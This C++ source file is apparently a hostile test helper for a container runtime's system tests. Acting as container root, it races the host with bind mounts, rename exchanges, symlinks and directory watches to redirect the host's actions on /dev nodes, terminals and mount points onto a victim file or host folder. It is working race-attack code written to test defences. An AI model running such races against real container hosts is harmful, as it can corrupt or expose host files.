// A container's root that attacks host root: it moves, links, mounts and unmounts the names that
// host root may act on, as fast as it can, until it is killed. `attacker VICTIM FOLDER`: VICTIM is a
// file and FOLDER a folder of the host that the container sees. Static, so that it runs in any root
// file system. tests/system/hostile_test.py looks at what became of the victims.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdio>
#include <functional>
#include <string>
#include <vector>

namespace {

constexpr unsigned kExchange = 2;  // RENAME_EXCHANGE

void exchange(const std::string& a, const std::string& b) {
    (void)::syscall(SYS_renameat2, AT_FDCWD, a.c_str(), AT_FDCWD, b.c_str(), kExchange);
}

// Runs `act` for ever in a process of its own.
void forever(const std::function<void(unsigned round)>& act) {
    if (::fork() != 0) return;
    for (unsigned round = 0;; ++round) act(round);
}

// Covers each terminal, and each name that a console may get, with the victim.
void cover_terminals(const std::string& victim) {
    for (const char* folder : {"/dev/pts/", "/dev/tty"})
        forever([=](unsigned round) {
            const std::string name = folder + std::to_string(round % 6);
            if (::mount(victim.c_str(), name.c_str(), nullptr, MS_BIND, nullptr) == 0) {
                (void)::sched_yield();
                (void)::umount2(name.c_str(), MNT_DETACH);
            }
        });
    forever([=](unsigned) {
        if (::mount(victim.c_str(), "/dev/pts/ptmx", nullptr, MS_BIND, nullptr) == 0)
            (void)::umount2("/dev/pts/ptmx", MNT_DETACH);
    });
}

// Puts the victim, a link to it, or another node in the place of a node.
void replace_node(const std::string& victim, const std::string& node) {
    forever([=](unsigned) {
        if (::mount(victim.c_str(), node.c_str(), nullptr, MS_BIND, nullptr) == 0)
            (void)::umount2(node.c_str(), MNT_DETACH);
    });
    const std::string link = node + ".link", other = node + ".other";
    (void)::symlink(victim.c_str(), link.c_str());
    (void)::close(::open(other.c_str(), O_CREAT | O_WRONLY, 0644));
    forever([=](unsigned round) {
        const std::string& with = round % 2 == 0 ? link : other;
        exchange(node, with);
        (void)::sched_yield();
        exchange(node, with);
    });
    forever([=](unsigned) {
        const std::string moved = node + ".moved";
        if (::rename(node.c_str(), moved.c_str()) == 0) (void)::rename(moved.c_str(), node.c_str());
    });
}

// Puts a folder of the host in the place of a folder of /dev, by a mount and by a link.
void replace_folder(const std::string& host, const std::string& folder) {
    forever([=](unsigned) {
        (void)::mkdir(folder.c_str(), 0755);
        if (::mount(host.c_str(), folder.c_str(), nullptr, MS_BIND, nullptr) == 0) {
            (void)::sched_yield();
            (void)::umount2(folder.c_str(), MNT_DETACH);
        }
    });
    const std::string link = folder + ".link";
    (void)::symlink(host.c_str(), link.c_str());
    forever([=](unsigned) {
        exchange(folder, link);
        exchange(folder, link);
        (void)::rmdir(folder.c_str());
    });
}

// Exchanges the folder of a mount point for a link to the host's folder, and removes the mount
// point, so that attaching it fails after it was made.
void replace_mount_point(const std::string& host) {
    (void)::mkdir("/a", 0755);
    (void)::symlink(host.c_str(), "/a.link");
    forever([](unsigned) {
        exchange("/a", "/a.link");
        exchange("/a", "/a.link");
    });
    for (const char* point : {"/a/victim", "/a/file", "/a.link/victim", "/a.link/file"})
        forever([=](unsigned) {
            (void)::unlink(point);
            (void)::rmdir(point);
        });
}

// Makes every access to these folders slow: each watch is looked at then.
void widen() {
    for (const char* folder : {"/dev", "/dev/pts"})
        if (::fork() == 0) {
            (void)::signal(SIGIO, SIG_IGN);
            for (int i = 0; i < 1000; ++i) {
                const int fd = ::open(folder, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
                if (fd < 0) break;
                (void)::fcntl(fd, F_NOTIFY,
                              DN_ACCESS | DN_ATTRIB | DN_CREATE | DN_RENAME | DN_MULTISHOT);
            }
            for (;;) (void)::pause();
        }
}

}  // namespace

int main(int argc, char** argv) {
    if (argc != 3) return 2;
    const std::string victim = argv[1], host = argv[2];
    widen();
    cover_terminals(victim);
    replace_node(victim, "/dev/vdb");
    replace_folder(host, "/dev/net");
    replace_mount_point(host);
    std::puts("attacking");
    (void)std::fflush(stdout);
    for (;;) (void)::pause();
}
